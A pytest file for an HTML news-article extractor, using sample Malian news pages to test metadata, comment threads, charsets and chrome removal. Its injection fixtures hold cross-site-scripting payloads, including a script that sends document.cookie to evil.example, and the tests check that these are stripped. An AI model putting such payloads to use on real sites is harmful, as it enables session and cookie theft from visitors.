"""Extraction of raw HTML pages: detection, charsets, chrome, article region, markup metadata, comments."""

from __future__ import annotations

import csv
import json
from html import escape

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from search.extract.files import SkipFile, extract_text, load_file
from search.extract.html.page import html_page
from search.extract.html.parse import declared_charset, looks_like_html, parse

WORDPRESS = """<!DOCTYPE html>
<html lang="fr-FR">
<head>
<meta charset="UTF-8">
<title>Sécurité : le ministre reçoit les chefs militaires - Maliweb.net</title>
<meta property="og:title" content="Sécurité : le ministre reçoit les chefs militaires">
<meta property="og:site_name" content="Maliweb.net">
<meta property="og:url" content="https://www.maliweb.net/securite/securite-le-ministre-recoit-3045678.html">
<meta property="article:published_time" content="2024-03-12T09:15:00+00:00">
<meta property="article:modified_time" content="2024-04-01T09:15:00+00:00">
<meta name="author" content="Moussa Diarra">
<script>var x = "<p>pas du texte</p>";</script>
<style>.menu { color: red }</style>
</head>
<body class="post-template-default single has-sidebar">
<header id="masthead" class="site-header"><h1 class="site-title"><a href="/">Maliweb.net</a></h1>
<nav class="main-navigation"><ul><li class="menu-item"><a href="/">Accueil</a></li>
<li class="menu-item"><a href="/politique">Politique</a></li></ul></nav></header>
<div id="content" class="site-content">
<div id="primary" class="content-area"><main id="main" class="site-main">
<article id="post-3045678" class="post-3045678 post type-post status-publish">
<header class="entry-header"><h1 class="entry-title">Sécurité : le ministre reçoit les chefs militaires</h1>
<div class="entry-meta"><span class="posted-on">Publié le <time class="entry-date published"
 datetime="2024-03-12T09:15:00+00:00">12 mars 2024</time></span> <span class="byline">par <span class="author vcard">
 <a class="url fn n" href="/author/mdiarra">Moussa Diarra</a></span></span></div>
</header>
<div class="entry-content">
<p>Le ministre de la Défense a reçu ce lundi à Bamako les chefs d&rsquo;état-major des armées pour faire le point
sur la situation sécuritaire dans le centre du pays.</p>
<div class="sharedaddy sd-sharing-enabled"><h3>Partager :</h3><ul><li><a href="#">Facebook</a></li>
<li><a href="#">Twitter</a></li></ul></div>
<p>Selon un communiqué, les échanges ont porté sur la montée en puissance des forces armées.<br>
Les chefs militaires ont présenté leur bilan.</p>
<p>La réunion s&#39;est tenue à huis clos &amp; sans la presse.
<p>Un nouveau point est prévu le mois prochain.
</div>
<footer class="entry-footer"><span class="cat-links">Publié dans <a href="#">Sécurité</a></span></footer>
</article>
<div id="comments" class="comments-area">
<h2 class="comments-title">3 réflexions sur &laquo;&nbsp;Sécurité&nbsp;&raquo;</h2>
<ol class="comment-list">
<li id="comment-101" class="comment even thread-even depth-1">
<article id="div-comment-101" class="comment-body">
<footer class="comment-meta"><div class="comment-author vcard"><img class="avatar" src="a.png">
<b class="fn">Amadou Traoré</b> <span class="says">dit :</span></div>
<div class="comment-metadata"><a href="#"><time datetime="2024-03-12T10:00:00+00:00">12 mars 2024 à 10 h</time></a>
</div></footer>
<div class="comment-content"><p>Bravo à nos forces armées, courage !</p></div>
<div class="reply"><a class="comment-reply-link" href="#">Répondre</a></div>
</article>
<ul class="children">
<li id="comment-102" class="comment odd alt depth-2">
<article id="div-comment-102" class="comment-body">
<footer class="comment-meta"><div class="comment-author vcard"><b class="fn">Fatoumata Coulibaly</b>
<span class="says">dit :</span></div></footer>
<div class="comment-content"><p>Il faut surtout des résultats sur le terrain.</p></div>
<div class="reply"><a class="comment-reply-link" href="#">Répondre</a></div>
</article>
</li>
</ul>
</li>
<li id="comment-103" class="comment even thread-odd depth-1">
<article id="div-comment-103" class="comment-body">
<footer class="comment-meta"><div class="comment-author vcard"><b class="fn"><a href="http://x.ml">Issa</a></b>
<span class="says">dit :</span></div></footer>
<div class="comment-content"><p>Que Dieu protège le Mali.</p></div>
</article>
</li>
</ol>
<div id="respond" class="comment-respond"><h3 id="reply-title" class="comment-reply-title">Laisser un commentaire</h3>
<form action="/wp-comments-post.php" method="post" id="commentform" class="comment-form">
<p>Votre adresse e-mail ne sera pas publiée.</p><textarea name="comment"></textarea></form></div>
</div>
</main></div>
<aside id="secondary" class="widget-area"><section class="widget"><h2>Articles récents</h2>
<ul><li><a href="#">Autre article sur la sécurité au centre</a></li></ul></section></aside>
</div>
<footer id="colophon" class="site-footer"><div class="site-info">© 2024 Maliweb.net - Tous droits réservés</div></footer>
<div class="cookie-notice">Ce site utilise des cookies. <button>Accepter</button></div>
</body></html>
"""

JSON_LD = """<!doctype html><html lang="fr"><head>
<meta charset="utf-8">
<title>Assimi Goïta reçoit une délégation de la CEDEAO | Journal du Mali</title>
<link rel="canonical" href="https://www.journaldumali.com/2023/08/02/assimi-goita-recoit-une-delegation/">
<script type="application/ld+json">
{"@context":"https://schema.org","@graph":[
 {"@type":"WebPage","@id":"https://www.journaldumali.com/2023/08/02/x/","datePublished":"2023-08-01T08:00:00+00:00"},
 {"@type":"NewsArticle","headline":"Assimi Goïta reçoit une délégation de la CEDEAO",
  "datePublished":"2023-08-02T11:30:00+00:00","dateModified":"2023-08-03T09:00:00+00:00",
  "author":{"@id":"https://www.journaldumali.com/#/schema/person/abc"},
  "publisher":{"@id":"https://www.journaldumali.com/#organization"}},
 {"@type":"Person","@id":"https://www.journaldumali.com/#/schema/person/abc","name":"Aly Asmane Ascofaré"},
 {"@type":"NewsMediaOrganization","@id":"https://www.journaldumali.com/#organization","name":"Journal du Mali"}
]}
</script>
</head><body>
<div class="top-bar"><a href="/">Journal du Mali</a> <a href="/politique">Politique</a></div>
<div class="container"><div class="row"><div class="col-md-8">
<div class="breadcrumb"><a href="/">Accueil</a> » <a href="/politique">Politique</a></div>
<h1 class="post-title">Assimi Goïta reçoit une délégation de la CEDEAO</h1>
<div itemprop="articleBody">
<p>Le président de la Transition, le colonel Assimi Goïta, a reçu mercredi à Koulouba une délégation de la
Communauté économique des États de l’Afrique de l’Ouest conduite par son médiateur.</p>
<p>Les échanges ont porté sur le calendrier de la transition et sur la levée des sanctions.</p>
<div class="td-a-rec"><div class="ad-slot">PUBLICITÉ</div></div>
<p>« Nous avons réaffirmé notre disponibilité à accompagner le Mali », a déclaré le chef de la délégation.</p>
</div>
<div class="share-buttons"><a>Facebook</a> <a>WhatsApp</a></div>
<div class="related-posts"><h3>Articles similaires</h3><article class="teaser"><h4>La CEDEAO lève les sanctions</h4>
</article></div>
</div>
<div class="col-md-4 sidebar"><div class="widget"><h3>Les plus lus</h3><ul><li>Un autre titre très lu</li></ul></div>
</div></div></div>
<div class="footer-wrap">Journal du Mali © 2023 — Tous droits réservés. Contact : redaction@journaldumali.com</div>
</body></html>
"""

AFP_DATELINE = """<!DOCTYPE html>
<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<title>Mali: au moins 20 civils tués dans une attaque dans le centre - France 24</title>
<meta property="og:title" content="Mali: au moins 20 civils tués dans une attaque dans le centre">
<meta property="og:site_name" content="France 24">
</head><body>
<nav><a href="/fr/">France 24</a><a href="/fr/afrique/">Afrique</a></nav>
<main><article>
<header><h1>Mali: au moins 20 civils tués dans une attaque dans le centre</h1>
<p class="m-pub-dates">Publié le : <time datetime="2022-06-20T14:05:00+02:00">20/06/2022 - 14:05</time></p></header>
<div class="t-content__body">
<p>Bamako (AFP) – Au moins vingt civils ont été tués dans une attaque menée par des hommes armés contre un village
du centre du Mali, ont indiqué lundi des élus locaux et une source sécuritaire.</p>
<p>L'attaque s'est produite dimanche soir dans la commune de Diallassagou, selon un élu local.</p>
<p>© 2022 AFP</p>
</div>
</article></main>
<footer><p>France 24 - Tous droits réservés</p></footer>
</body></html>
"""

CP1252 = """<html><head><meta http-equiv="content-type" content="text/html; charset={charset}">
<title>L’Indépendant : Kidal, la crise s’éternise</title></head>
<body><div id="menu"><a>Accueil</a> | <a>Archives</a></div>
<table width="100%"><tr><td class="gauche"><b>Rubriques</b><br>Politique<br>Société</td>
<td class="centre"><h1>Kidal, la crise s’éternise</h1>
<p>Par Moussa Koné</p>
<p>Les négociations entre le gouvernement et les groupes armés piétinent depuis des semaines à Kidal, où la
population attend toujours le retour de l’administration et des services sociaux de base.</p>
<p>Selon nos informations, la reconstruction coûterait 40 € par habitant et le cœur du problème reste la sécurité.</p>
</td></tr></table>
<div class="footer">© L’Indépendant</div></body></html>"""

BROKEN = """<div><p>Texte sans fermeture
<p>Deuxième paragraphe avec <b>gras <i>et italique</b> mal imbriqué</i>
<div><ul><li>Un<li>Deux</ul></span></div></div></div></div>
<p>Encore un paragraphe assez long pour être du texte, qui parle du Mali et de Bamako.
<table><tr><td>Région de Kayes<td>Région de Ségou<tr><td>Région de Mopti</table><p>Fin du texte <a href="x"""

INJECTION = """<html><head>
<title>Coup d'État <script>alert("titre")</script> à Bamako &lt;script&gt;alert(2)&lt;/script&gt;</title>
</head><body>
<h1>Coup d'État à Bamako <script>document.write('<b>x</b>')</script></h1>
<div class="content"><p>Des militaires ont pris le contrôle de la radio nationale mardi matin à Bamako, selon des
témoins.<script>fetch('https://evil.example/?c='+document.cookie)</script></p>
<p onclick="alert(4)">Le texte &lt;iframe src="javascript:alert(5)"&gt;&lt;/iframe&gt; reste du texte, et 3 &lt; 5.</p>
<p><a href="javascript:alert(6)">Lien</a> <img src=x onerror="alert(7)"> <svg onload=alert(8)><text>svg</text></svg></p>
<style>p{color:red}</style><noscript><p>Activez JavaScript</p></noscript><template><p>gabarit</p></template>
<p style="display:none">Texte caché</p><iframe src="https://evil.example/"></iframe>
</div></body></html>"""

WPDISCUZ = """<!DOCTYPE html><html lang="fr-FR"><head><meta charset="UTF-8">
<title>Bamako : la Transition prolongée de deux ans - Sahel Tribune</title>
<meta property="og:site_name" content="Sahel Tribune">
<meta property="og:url" content="https://saheltribune.com/bamako-la-transition-prolongee/">
<meta name="author" content="La Rédaction">
</head><body>
<div class="td-header-wrap"><div class="td-header-menu-wrap"><ul id="menu-main"><li>Accueil</li><li>Politique</li>
</ul></div></div>
<div class="td-main-content-wrap">
<div class="td-post-header"><h1 class="entry-title">Bamako : la Transition prolongée de deux ans</h1>
<time class="entry-date updated td-module-date" datetime="2024-05-12T10:00:00+00:00">12 mai 2024</time></div>
<div class="td-post-content tagdiv-type">
<p>Les participants au dialogue inter-Maliens ont recommandé de prolonger la Transition de deux à cinq ans.</p>
<p>Ils ont aussi proposé la candidature du président de la Transition à la prochaine élection présidentielle.</p>
</div>
<div id="wpdcom" class="wpdiscuz_unauth wpd-default">
<div class="wpd-thread-info" data-comments-count="3"><span class="wpdtc">3</span> Commentaires</div>
<div id="wpd-comm-11_0" class="comment even thread-even depth-1 wpd-comment wpd_comment_level-1">
 <div class="wpd-comment-wrap wpd-blog-guest" id="comment-11"><div class="wpd-comment-right">
   <div class="wpd-comment-header"><div class="wpd-comment-author">Boubacar Sidibé</div>
   <div class="wpd-comment-date">il y a 2 jours</div></div>
   <div class="wpd-comment-text"><p>Cinq ans de plus, c'est trop long pour le peuple.</p></div>
   <div class="wpd-comment-footer"><div class="wpd-reply-button">Répondre</div></div>
 </div></div>
 <div id="wpd-comm-12_11" class="comment odd alt depth-2 wpd-comment wpd-reply wpd_comment_level-2">
  <div class="wpd-comment-wrap" id="comment-12"><div class="wpd-comment-right">
   <div class="wpd-comment-author">Aminata Dicko</div>
   <div class="wpd-comment-text"><p>Il faut d'abord la sécurité.</p></div></div></div>
  <div id="wpd-comm-13_12" class="comment even depth-3 wpd-comment wpd-reply wpd_comment_level-3">
   <div class="wpd-comment-wrap" id="comment-13"><div class="wpd-comment-right">
    <div class="wpd-comment-author">Boubacar Sidibé</div>
    <div class="wpd-comment-text"><p>D'accord avec vous.</p></div></div></div>
  </div>
 </div>
</div>
</div></div>
<div class="td-footer-wrapper">© 2024 Sahel Tribune. Tous droits réservés.</div>
</body></html>
"""

LEAD = ("Le gouvernement de transition a annoncé mardi à Bamako un nouveau calendrier électoral, après plusieurs mois "
        "de consultations avec les partis politiques et la société civile.")


def _write(tmp_path, name: str, content: str, encoding: str = "utf-8"):
    path = tmp_path / name
    path.write_bytes(content.encode(encoding))
    return path


def _one(path):
    (article,) = load_file(path)
    return article


@pytest.fixture(scope="module")
def wordpress(tmp_path_factory):
    return _one(_write(tmp_path_factory.mktemp("wp"), "maliweb-3045678.html", WORDPRESS))


@pytest.mark.parametrize("key,expected", [
    ("title", "Sécurité : le ministre reçoit les chefs militaires"),
    ("outlet", "Maliweb"),
    ("site", "maliweb.net"),
    ("url", "https://www.maliweb.net/securite/securite-le-ministre-recoit-3045678.html"),
    ("author", "Moussa Diarra"),
    ("date", "2024-03-12"),
    ("date_precision", "day"),
    ("date_estimated", False),
    ("title_derived", False),
    ("comments_count", 3),
])
def test_wordpress_page_metadata_comes_from_its_markup(wordpress, key, expected):
    assert wordpress[key] == expected


def test_wordpress_page_body_is_the_article_text_without_chrome(wordpress):
    paragraphs = wordpress["body"].split("\n\n")
    assert paragraphs[0].startswith("Le ministre de la Défense a reçu ce lundi à Bamako les chefs d’état-major")
    assert paragraphs[-1] == "Un nouveau point est prévu le mois prochain."
    assert "La réunion s'est tenue à huis clos & sans la presse." in paragraphs
    for chrome in ("Accueil", "Partager", "Facebook", "Articles récents", "cookies", "Tous droits", "Publié dans",
                   "Laisser un commentaire", "adresse e-mail", "pas du texte", "color", "Bravo", "Maliweb.net"):
        assert chrome not in wordpress["body"], chrome


def test_wordpress_comments_keep_authors_and_reply_threads(wordpress):
    got = [(c["author"], c["text"], c["reply_to"]) for c in wordpress["comments"]]
    assert got == [
        ("Amadou Traoré", "Bravo à nos forces armées, courage !", None),
        ("Fatoumata Coulibaly", "Il faut surtout des résultats sur le terrain.", wordpress["comments"][0]["id"]),
        ("Issa", "Que Dieu protège le Mali.", None),
    ]


def test_wpdiscuz_comments_nest_replies_and_read_the_stated_count(tmp_path):
    art = _one(_write(tmp_path, "sahel.html", WPDISCUZ))
    got = [(c["author"], c["text"]) for c in art["comments"]]
    assert got == [("Boubacar Sidibé", "Cinq ans de plus, c'est trop long pour le peuple."),
                   ("Aminata Dicko", "Il faut d'abord la sécurité."), ("Boubacar Sidibé", "D'accord avec vous.")]
    c1, c2, c3 = art["comments"]
    assert (c1["reply_to"], c2["reply_to"], c3["reply_to"]) == (None, c1["id"], c2["id"])
    assert art["comments_count"] == 3
    assert "Répondre" not in art["body"] and "Commentaires" not in art["body"]
    assert art["body"].startswith("Les participants au dialogue")


def test_unknown_site_name_matching_the_host_is_the_outlet_and_a_newsroom_is_not_an_author(tmp_path):
    art = _one(_write(tmp_path, "sahel.html", WPDISCUZ))
    assert (art["outlet"], art["site"], art["author"]) == ("Sahel Tribune", "saheltribune.com", None)
    assert art["title"] == "Bamako : la Transition prolongée de deux ans"
    assert art["date"] == "2024-05-12"


@pytest.mark.parametrize("site_name,host,outlet", [
    ("Sahel Tribune", "saheltribune.com", "Sahel Tribune"),
    ("Le Pays", "lepays.bf", "Le Pays"),  # known outlet of the table
    ("Accueil", "exemple-info.ml", "Exemple-info"),  # generic label, not a name: the host names the site
    ("Mon super blog d'actualités africaines", "wordpress.example.com", "Example"),  # says nothing about the host
])
def test_site_name_becomes_the_outlet_only_when_it_clearly_names_the_publication(tmp_path, site_name, host, outlet):
    page = (f'<html><head><meta property="og:site_name" content="{site_name}">'
            f'<meta property="og:url" content="https://{host}/article-1"></head>'
            f"<body><h1>Le calendrier électoral est publié</h1><p>{LEAD}</p></body></html>")
    assert _one(_write(tmp_path, "p.html", page))["outlet"] == outlet


def test_json_ld_news_article_gives_headline_date_author_and_publisher(tmp_path):
    art = _one(_write(tmp_path, "jdm.html", JSON_LD))
    assert art["title"] == "Assimi Goïta reçoit une délégation de la CEDEAO"
    assert (art["date"], art["date_precision"], art["date_estimated"]) == ("2023-08-02", "day", False)
    assert art["author"] == "Aly Asmane Ascofaré"  # resolved through the @graph's @id
    assert (art["outlet"], art["site"]) == ("Journal du Mali", "journaldumali.com")
    assert art["url"] == "https://www.journaldumali.com/2023/08/02/assimi-goita-recoit-une-delegation/"
    paragraphs = art["body"].split("\n\n")
    assert len(paragraphs) == 3 and paragraphs[0].startswith("Le président de la Transition")
    for chrome in ("PUBLICITÉ", "Facebook", "Articles similaires", "Les plus lus", "Accueil", "redaction@"):
        assert chrome not in art["body"], chrome


def test_agency_dateline_page_names_the_agency_and_the_host_as_site(tmp_path):
    art = _one(_write(tmp_path, "f24.html", AFP_DATELINE))
    assert (art["outlet"], art["site"], art["author"]) == ("AFP", "france24.com", None)
    assert art["title"] == "Mali: au moins 20 civils tués dans une attaque dans le centre"
    assert (art["date"], art["date_precision"]) == ("2022-06-20", "day")
    assert art["body"].startswith("Bamako (AFP) – Au moins vingt civils")
    assert "©" not in art["body"] and "Tous droits" not in art["body"]


@pytest.mark.parametrize("charset,encoding", [("windows-1252", "cp1252"), ("iso-8859-1", "cp1252"),
                                              ("ISO-8859-15", "iso-8859-15")])
def test_page_in_a_declared_single_byte_charset_decodes_without_mojibake(tmp_path, charset, encoding):
    page = CP1252.format(charset=charset)
    if encoding == "iso-8859-15":
        page = page.replace("’", "'")  # latin-9 has no typographic apostrophe
    art = _one(_write(tmp_path, "kidal.htm", page, encoding))
    assert "la reconstruction coûterait 40 € par habitant et le cœur du problème" in art["body"]
    assert art["title"].endswith("la crise s’éternise") or art["title"].endswith("la crise s'éternise")
    assert art["author"] == "Moussa Koné"
    assert art["outlet"] == "L’Indépendant"  # from the "©" line of the (dropped) site footer
    assert "Rubriques" not in art["body"] and "Accueil" not in art["body"]


@pytest.mark.parametrize("head,codec", [
    (b'<meta charset="windows-1252">', "cp1252"),
    (b"<META HTTP-EQUIV='Content-Type' CONTENT='text/html; charset=ISO-8859-1'>", "cp1252"),
    (b'<meta charset=utf-8>', "utf-8"),
    (b'<?xml version="1.0" encoding="iso-8859-15"?><html>', "iso8859-15"),
    (b'<meta charset="utf-16">', "utf-8"),  # ASCII bytes cannot be UTF-16
    (b'<meta charset="no-such-charset">', None),
    (b"<p>no declaration</p>", None),
])
def test_declared_charset_is_read_from_meta_or_xml_declaration(head, codec):
    assert declared_charset(b"<html><head>" + head if not head.startswith(b"<?xml") else head) == codec


def test_utf8_page_wrongly_declared_as_latin1_is_still_read_as_utf8(tmp_path):
    page = CP1252.format(charset="iso-8859-1")
    art = _one(_write(tmp_path, "kidal.html", page, "utf-8"))
    assert "le cœur du problème" in art["body"] and "Ã" not in art["body"]


def test_broken_unclosed_html_still_gives_its_text(tmp_path):
    art = _one(_write(tmp_path, "broken.html", BROKEN))
    paragraphs = art["body"].split("\n\n")
    assert "Deuxième paragraphe avec gras et italique mal imbriqué" in paragraphs
    assert "Encore un paragraphe assez long pour être du texte, qui parle du Mali et de Bamako." in paragraphs
    assert {"Un", "Deux", "Région de Kayes", "Région de Ségou", "Région de Mopti", "Fin du texte"} <= set(paragraphs)
    assert "<" not in art["body"] and "href" not in art["body"]


def test_html_document_saved_as_txt_is_detected_by_its_content(tmp_path):
    art = _one(_write(tmp_path, "page.txt", JSON_LD))
    assert art["title"] == "Assimi Goïta reçoit une délégation de la CEDEAO"
    assert art["author"] == "Aly Asmane Ascofaré"
    assert "<p>" not in art["body"] and "@graph" not in art["body"]


def test_script_injection_in_title_and_body_comes_out_as_plain_text(tmp_path):
    art = _one(_write(tmp_path, "inj.txt", INJECTION))
    assert art["title"] == "Coup d'État à Bamako"
    text = json.dumps(art, ensure_ascii=False)
    for bad in ("<script", "<iframe", "<img", "<svg", "<b>", "alert(", "document.", "onerror", "onclick",
                "javascript:", "evil.example", "color:red", "Activez JavaScript", "gabarit", "Texte caché"):
        assert bad not in text, bad
    assert art["body"].startswith("Des militaires ont pris le contrôle de la radio nationale")
    assert "reste du texte, et 3 < 5." in art["body"]  # an escaped "<" that is not a tag stays text


@pytest.mark.parametrize("text,is_html", [
    (WORDPRESS, True),
    ("<p>Un paragraphe.</p><p>Un autre.</p><p>Et un troisième.</p>", True),
    ("\ufeff  <!-- saved --> <!DOCTYPE html><title>x</title>", True),
    ("Titre de l'article\n\n" + LEAD + "<br />\n\n" + LEAD * 3, False),  # a stray <br /> in a text page
    ("Titre\n\nLe ministre a dit que 3 < 5 et que a > b.", False),
    ("", False),
])
def test_html_is_told_from_visible_text_by_its_content(text, is_html):
    assert looks_like_html(text) is is_html


def test_text_page_with_a_stray_tag_is_still_read_as_text(tmp_path):
    page = f"Le calendrier électoral est publié\n\n{LEAD}\n\nUne ligne avec <br /> dedans.\n\n{LEAD}"
    art = _one(_write(tmp_path, "page.txt", page))
    assert art["title"] == "Le calendrier électoral est publié"
    assert "Une ligne avec <br /> dedans." in art["body"]


def test_page_rendered_by_javascript_is_skipped_with_a_reason(tmp_path):
    page = ('<!DOCTYPE html><html><head><title>Maliweb</title><script src="/app.js"></script></head>'
            '<body><div id="root"></div><noscript>Activez JavaScript.</noscript></body></html>')
    with pytest.raises(SkipFile, match="HTML page without article text"):
        load_file(_write(tmp_path, "spa.html", page))


def test_sidecar_beside_an_html_page_overrides_its_metadata(tmp_path):
    path = _write(tmp_path, "page.html", WORDPRESS)
    (tmp_path / "page.json").write_text(json.dumps({"date": "2024-03-11", "author": "Awa Konaté"}), encoding="utf-8")
    art = _one(path)
    assert (art["date"], art["author"], art["outlet"]) == ("2024-03-11", "Awa Konaté", "Maliweb")


def test_sidecar_of_an_html_page_is_not_read_as_an_article(tmp_path):
    _write(tmp_path, "page.htm", WORDPRESS)
    side = tmp_path / "page.json"
    side.write_text("{}", encoding="utf-8")
    assert load_file(side) == []


def test_reindex_walks_html_pages(tmp_path):
    from search.index.reindex import walk_sources

    _write(tmp_path, "a.html", WORDPRESS)
    _write(tmp_path, "b.htm", JSON_LD)
    (tmp_path / "b.json").write_text("{}", encoding="utf-8")
    files, ignored, skipped = walk_sources(tmp_path)
    assert sorted(f.rel for f in files) == ["a.html", "b.htm"]
    assert [f.sidecar.name for f in files if f.sidecar] == ["b.json"]
    assert not skipped and ignored == 0


@pytest.mark.parametrize("markup", [
    "<div>" * 5000 + LEAD + "</div>" * 5000,  # deeper than any real page
    "<p>" + LEAD + "<![if !supportLists]>x<![endif]><!ATTLIST x> <? php ?></p>",
    "<html><body><p a=" + "x" * 100000 + ">" + LEAD + "</p>",
    "<p>" + LEAD + "</p><script>" + "<" * 10000,
    "<table><td><td><tr><li><dd><option>" + LEAD,
])
def test_hostile_markup_gives_an_article(markup):
    art = extract_text(markup, id="x")
    assert "Le gouvernement de transition" in art["body"] + art["title"]
    assert "<" not in art["title"]


def test_element_tree_closes_implied_paragraphs_and_list_items():
    root = parse("<ul><li>Un<li>Deux</ul><p>A<p>B<div>C</div>")
    (ul,) = [n for n in root.iter() if n.tag == "ul"]
    assert [n.text() for n in ul.children] == ["Un", "Deux"]
    assert [n.text() for n in root.iter() if n.tag == "p"] == ["A", "B"]


_HTMLISH = st.lists(st.one_of(
    st.sampled_from(["<p>", "</p>", "<div class='menu'>", "</div>", "<br>", "<script>", "</script>", "<!--", "-->",
                     "<article>", "</article>", "<h1>", "</h1>", "&amp;", "&#0;", "&#xD800;", "&nbsp;", "<![CDATA[",
                     "<meta charset='x'>", "<title>", "</title>", "<li class='comment' id='comment-1'>", "<ul>",
                     "<script type='application/ld+json'>{\"@type\":\"NewsArticle\",\"author\":[", "<", ">", "\"",
                     "<time datetime='2024-13-45'>", "<!DOCTYPE html>", "<a href='", "é", "’", "\x00", "\r\n"]),
    st.text(max_size=30)), max_size=60).map("".join)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(markup=_HTMLISH)
def test_any_html_ish_file_gives_an_article_or_a_skip_reason(tmp_path, markup):
    path = tmp_path / "page.html"
    path.write_bytes(markup.encode("utf-8", "surrogatepass"))
    try:
        articles = load_file(path)
    except SkipFile as exc:
        assert str(exc) and "\n" not in str(exc)
        return
    for art in articles:
        json.dumps(art)
        assert isinstance(art["title"], str) and isinstance(art["body"], str)
        assert "<script" not in art["body"].lower()


def test_raw_pages_wrapped_in_html_extract_exactly_like_the_text_pages(corpus_dir):
    raw = corpus_dir / "raw"
    if not (raw / "INDEX.tsv").is_file():
        pytest.skip("raw pages not found in the corpus")
    with open(raw / "INDEX.tsv", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh, delimiter="\t"))[::4]
    for row in rows:
        text = (raw / row["file"]).read_text(encoding="utf-8")
        title, _, rest = text.partition("\n")
        blocks = "".join("<div><p>" + escape(b).replace("\n", "<br>\n") + "</p></div>\n"
                         for b in rest.split("\n\n") if b.strip())
        page = (f'<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(title)}</title></head>'
                f"<body>{blocks}</body></html>")
        from_html, from_text = extract_text(page, id=row["id"]), extract_text(text, id=row["id"])
        for key in ("title", "outlet", "site", "author", "date", "body", "comments"):
            assert from_html[key] == from_text[key], (row["file"], key)


def test_comments_marked_as_articles_are_not_taken_for_the_story(tmp_path):
    comment = ('<article class="comment js-comment" id="comment-{n}"><div class="username">Lecteur {n}</div>'
               '<div class="field--name-comment-body"><p>' + "Un très long commentaire de lecteur. " * 30 +
               "</p></div></article>")
    page = ("<html><head><title>Le calendrier électoral est publié</title></head><body>"
            f'<div class="node"><h1>Le calendrier électoral est publié</h1><p>{LEAD}</p></div>'
            f'<section class="comments">{comment.format(n=1)}{comment.format(n=2)}</section></body></html>')
    art = _one(_write(tmp_path, "drupal.html", page))
    assert art["body"] == LEAD
    assert [c["author"] for c in art["comments"]] == ["Lecteur 1", "Lecteur 2"]


def test_times_of_a_teaser_list_are_not_the_publication_date():
    page = ("<html><body><h1>Le calendrier électoral est publié</h1>"
            f"<div><p>{LEAD}</p></div><div class='fil'><ul><li><a>Autre titre</a>"
            "<time datetime='2020-07-03T10:00'>03 juillet 2020</time></li></ul></div></body></html>")
    assert html_page(page).meta["date"] is None
    marked = page.replace("<div><p>", "<div><time class='published' datetime='2024-02-01'>1er février</time><p>")
    assert html_page(marked).meta["date"] == "2024-02-01"


def test_text_page_carrying_injected_markup_stays_a_text_page():
    page = ("Sécurité <script>alert(1)</script> à Bamako \"><img src=x onerror=alert(1)>\n\n"
            "La sécurité reste fragile à Bamako <script>alert(1)</script> selon les habitants '><svg onload=alert(1)>.\n\n"
            "Un témoin raconte : « la sécurité <mark onmouseover=alert(1)>sécurité</mark> s'est dégradée » "
            "<a href=\"javascript:alert(1)\">clic</a> </textarea></title><script>alert(2)</script>.\n")
    assert looks_like_html(page) is False
    art = extract_text(page, id="x")
    assert len(art["body"].split("\n\n")) == 2  # its paragraphs are kept, not collapsed as HTML would


_COUNTED = """<html><head><title>Un titre de page assez long</title></head><body><article>
<h1>Un titre de page assez long</h1>
<p>Le texte de l'article est ici, avec assez de mots pour faire un corps de texte lisible et utile.</p>
</article>
<div id="comments" {attrs}><h2 class="comments-title">{heading}</h2>
<ol class="comment-list"><li id="comment-1" class="comment depth-1"><div class="comment-author vcard">
<b class="fn">Awa</b></div><div class="comment-content"><p>Un avis de lectrice.</p></div></li></ol>
</div></body></html>"""


@pytest.mark.parametrize("attrs,heading,count", [
    ('data-comments-count="9999999999"', "Commentaires", 1),
    ('data-comments-count="²"', "Commentaires", 1),
    ('data-comments-count="-3"', "Commentaires", 1),
    ("", "2999999999 commentaires", 1),
    ("", "1 000 000 000 commentaires", 1),
    ('data-comments-count="12"', "Commentaires", 12),
    ("", "4 commentaires", 4),
], ids=["huge-attribute", "superscript-attribute", "negative-attribute", "huge-heading", "spaced-heading",
        "attribute", "heading"])
def test_a_stated_comment_count_that_is_not_plausible_gives_way_to_the_comments_read(attrs, heading, count):
    art = extract_text(_COUNTED.format(attrs=attrs, heading=heading), id="p", html=True)
    assert len(art["comments"]) == 1 and art["comments_count"] == count
